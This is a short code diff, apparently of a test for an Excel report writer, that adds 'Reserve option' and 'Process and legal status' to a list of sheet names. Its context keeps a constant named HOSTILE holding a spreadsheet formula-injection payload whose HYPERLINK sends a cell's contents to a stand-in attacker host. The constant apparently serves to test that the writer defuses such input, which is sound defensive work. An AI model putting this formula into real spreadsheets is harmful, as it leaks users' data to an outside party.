@@ -12,7 +12,8 @@ from workbench.io.excel import KEY_NUMBERS, write_brief
 from workbench.io.excel_cells import CUT_MARK, EXCEL_TEXT_LIMIT, put
 from workbench.models.evaluate import evaluate
 
-SHEETS = ["Cover", "Key numbers", "What changed", "Assumptions", "Tariffs", "Grid", "Charts", "Sources"]
+SHEETS = ["Cover", "Key numbers", "What changed", "Assumptions", "Tariffs", "Grid", "Charts", "Reserve option",
+          "Process and legal status", "Sources"]
 HOSTILE = '=HYPERLINK("http://evil.example/steal?"&A1,"Click for the full data")'
 
 
